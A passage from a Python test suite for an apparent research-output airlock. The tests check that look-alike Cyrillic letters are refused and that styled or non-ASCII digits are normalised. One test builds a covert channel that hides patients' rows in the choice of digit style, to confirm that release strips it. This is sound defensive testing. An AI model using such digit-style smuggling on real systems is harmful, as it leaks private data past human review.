    with pytest.raises(Refused, match="written wholly in letters that look Latin and are not"):
        canonical_output("other", "notes.csv", "stage,note\nI,\u0421\u043e\u0445\n".encode())
    # An 'other' table has no labels check to hold its text to the catalogue: the same rule.
    with pytest.raises(Refused, match="have a word that mixes letters of different scripts"):
        canonical_output("other", "notes.csv", "stage,note\nI,c\u043ehort\n".encode())
    assert (
        canonical_output("other", "notes.csv", "stage,note\nI,когорта\n".encode()).data.decode().endswith("когорта\n")
    )


async def test_a_text_carries_no_bit_in_the_style_of_its_digits(web, airlock, people):
    """A results text whose every digit was an ASCII one or the mathematical sans-serif digit of the same
    value (``2`` or ``𝟤``, which a page shows alike): a bit a digit, and two patients' rows released through
    an ordinary approval, decoded from the download. So was an ``other`` table's cell. Every decimal digit now
    leaves as the ASCII one of its value, so the download holds no bit of them."""
    bits = _bits(ROWS)
    digits = "".join(str(i % 10) for i in range(len(bits)))
    styled = "".join(chr(0x1D7E2 + int(d)) if bit else d for d, bit in zip(digits, bits, strict=True))
    words = " ".join(styled[k : k + 4] for k in range(0, len(styled), 4))
    text = f"Results: the fold scores were {words}.\n"
    rid = submit(airlock, people, "alice", text.encode(), kind="other", name="results.txt")
    got = (await release(web, airlock, people, rid)).body.decode()
    shown = [c for c in got if c.isdigit()]
    assert len(shown) == len(bits) and "".join(shown) == digits  # every digit, each as the ASCII one
    assert ROWS not in _bytes([0 if c.isascii() else 1 for c in shown])
    for other, value in (
        ("\uff12\uff10\uff12\uff16", "2026"),
        ("\u0662\u0660\u0662\u0666", "2026"),
        ("\U0001d7f8\U0001d7f6", "20"),
    ):
        assert canonical_output("other", "t.txt", f"in {other}\n".encode()).data.decode() == f"in {value}\n"
    table = canonical_output("other", "t.csv", f"stage,score\nI,x{styled[:10]}\n".encode()).data.decode()
    assert table.endswith(f"I,x{digits[:10]}\n"), table
